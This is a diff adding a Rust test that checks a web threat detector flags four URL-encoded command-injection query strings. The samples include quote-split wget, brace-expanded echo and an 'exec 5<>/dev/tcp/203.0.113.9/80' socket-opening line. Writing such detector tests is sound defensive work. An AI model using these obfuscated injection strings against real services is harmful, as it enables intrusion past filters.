@@ -265,6 +265,24 @@ fn payloads_are_found_wherever_the_body_hides_them() {
 }
 
 #[test]
+fn commands_without_separators_wake_the_command_check() {
+    let detector = Detector::new();
+    for query in [
+        "q=%22w%22get%20localhost",
+        "q=%7B%2Cecho%2C%23test%7D",
+        "q=exec%205%3C%3E%2Fdev%2Ftcp%2F203.0.113.9%2F80",
+        "q=if%2Fi%20a%3D%3Db%20foo",
+    ] {
+        let threats =
+            detector.request(&exchange("/", Some(query), side(&[], b""), Side::default()));
+        assert!(
+            kinds(&threats).contains(&ThreatKind::CommandInjection),
+            "{query}: {threats:?}"
+        );
+    }
+}
+
+#[test]
 fn prose_names_and_code_talk_are_quiet_wherever_they_are_sent() {
     let detector = Detector::new();
     let json = [("Content-Type", "application/json")];
